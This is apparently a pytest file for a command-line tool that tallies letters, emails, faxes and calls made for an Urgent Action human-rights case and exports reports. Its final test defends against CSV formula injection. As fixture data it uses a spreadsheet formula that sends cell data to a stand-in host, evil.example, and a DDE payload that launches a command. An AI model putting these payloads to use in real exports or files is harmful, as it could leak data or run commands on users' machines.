"""The tally: record, report totals that match what was made, exports, forgetting."""

import csv
import io
import json

import pytest

from ._channels_util import run
from appeal.api import Supporter, compose_letters, load_case
from appeal.ledger import Ledger, record_letters


@pytest.fixture(autouse=True)
def ledger_path(tmp_path, monkeypatch):
    path = tmp_path / "ledger.sqlite3"
    monkeypatch.setenv("APPEAL_LEDGER", str(path))
    return path


def make_actions(tmp_path):
    loaded = load_case("ua-100.21")
    with Ledger() as ledger:  # a letter night: three supporters, two letters each
        for name in ("Ana", "Luis", "Mar"):
            record_letters(compose_letters(loaded, Supporter(name)), ledger=ledger)
    assert run("email", "ua-100.21", "--name", "Ana", "--to", "president",
               "--out", str(tmp_path / "eml")).exit_code == 0
    r = run("record", "ua-100.21", "--channel", "call", "--to", "ambassador", "--date",
            "2021-10-01")
    assert r.exit_code == 0 and "Recorded 1 phone call to Esteban Moctezuma" in r.output
    assert run("record", "ua-100.21", "--channel", "fax", "--to", "president", "--to",
               "ambassador", "--count", "2").exit_code == 0


def test_report_totals_match_what_was_made(tmp_path):
    make_actions(tmp_path)
    result = run("report", "ua-100.21")
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0] == "ua-100.21 — UA 100.21: Mass deportations must stop"
    assert lines[1].split() == ["Target", "Letters", "Emails", "Faxes", "Calls", "Total"]
    assert lines[2].split()[-5:] == ["3", "1", "2", "0", "6"]
    assert lines[2].startswith("Andrés Manuel López Obrador")  # the UA's order
    assert lines[3].split()[-5:] == ["3", "0", "2", "1", "6"]
    assert lines[4].split()[-5:] == ["6", "1", "4", "1", "12"]
    summary = lines[-1]
    assert summary.startswith("We took 12 actions for Urgent Action 100.21 (Mass deportations "
                              "must stop) between October 1, 2021 and ")
    assert "6 letters, 1 email, 4 faxes and 1 phone call" in summary
    assert "Andrés Manuel López Obrador (6) and Esteban Moctezuma (6)" in summary


def test_csv_and_json_exports(tmp_path):
    make_actions(tmp_path)
    rows = list(csv.DictReader(io.StringIO(run("report", "ua-100.21", "--csv").output)))
    assert sum(int(r["count"]) for r in rows) == 12
    assert {"case_id": "ua-100.21", "ua_number": "100.21", "target_id": "ambassador",
            "target_name": "Esteban Moctezuma", "channel": "call", "count": "1"} in rows
    data = json.loads(run("report", "ua-100.21", "--json").output)
    assert data[0]["total"] == 12 and data[0]["by_channel"] == {
        "letter": 6, "email": 1, "fax": 4, "call": 1}
    assert data[0]["summary"].startswith("We took 12 actions")
    assert run("report", "--csv", "--json").exit_code == 2


def test_report_without_case_lists_every_case_and_empty_ledger(tmp_path):
    assert "No actions recorded yet." in run("report").output
    make_actions(tmp_path)
    with Ledger() as ledger:
        ledger.record("ua-gone", "someone", "letter")
    out = run("report").output
    assert "ua-100.21 — UA 100.21" in out and "ua-gone" in out and "someone" in out


def test_forget_asks_first(tmp_path):
    make_actions(tmp_path)
    no = run("report", "--forget", "ua-100.21", input="n\n")
    assert no.exit_code == 1 and "Delete 12 recorded actions for ua-100.21?" in no.output
    assert "Nothing was deleted." in no.output
    yes = run("report", "--forget", "ua-100.21", input="y\n")
    assert yes.exit_code == 0 and "Deleted 12 recorded actions" in yes.output
    assert "No actions recorded yet for" in run("report", "ua-100.21").output
    assert run("report", "--forget").exit_code == 2


def test_record_validates_case_target_channel(tmp_path):
    assert run("record", "ua-nope", "--channel", "call", "--to", "x").exit_code == 2
    assert run("record", "ua-100.21", "--channel", "call", "--to", "nobody").exit_code == 2
    bad = run("record", "ua-100.21", "--channel", "pigeon", "--to", "president")
    assert bad.exit_code == 2 and "Unknown channel" in bad.output
    assert run("record", "ua-100.21", "--channel", "call", "--to", "president", "--by",
               "Ana").exit_code == 0
    with Ledger() as ledger:
        assert [a.supporter for a in ledger.actions("ua-100.21")] == ["Ana"]


def test_damaged_ledger_is_a_message_not_a_traceback(ledger_path):
    ledger_path.write_bytes(b"\x00garbage" * 500)
    result = run("report", "ua-100.21")
    assert result.exit_code == 1
    assert f"The action ledger {ledger_path} is damaged" in result.output
    assert "Traceback" not in result.output


def test_spanish_interface(tmp_path):
    make_actions(tmp_path)
    from typer.testing import CliRunner

    from ._channels_util import make_app
    from appeal.i18n import set_language

    set_language("es")
    try:
        out = CliRunner().invoke(make_app(), ["report", "ua-100.21"]).output
    finally:
        set_language("en")
    assert "Destinatario" in out and "Cartas" in out
    assert "Hicimos 12 acciones por la Acción Urgente 100.21" in out
    assert "6 cartas, 1 correo electrónico, 4 faxes y 1 llamada telefónica" in out


def test_csv_defuses_formula_like_cells_like_the_manifest(tmp_path):
    """A target name from a case file, or a target id from the ledger, that a spreadsheet
    would run as a formula comes out as text ('=...), as in a batch's manifest.csv."""
    from ._channels_util import custom_case

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

    def edit(data):
        data["targets"][0]["name"] = formula

    root = custom_case(tmp_path, edit)
    assert run("record", "ua-test", "--channel", "call", "--to", "president",
               "--cases", str(root)).exit_code == 0
    with Ledger() as ledger:  # a target no longer in any case file: only its id is known
        ledger.record("ua-gone", "@SUM(1+1)*cmd|' /C calc'!A0", "letter")
        ledger.record("ua-gone", "-2+3", "letter", count=2)
    out = run("report", "--csv", "--cases", str(root)).output
    rows = list(csv.DictReader(io.StringIO(out)))
    cells = [v for r in rows for v in r.values()]
    assert "'" + formula in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'-2+3" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert sorted(r["count"] for r in rows) == ["1", "1", "2"]  # numbers stay numbers
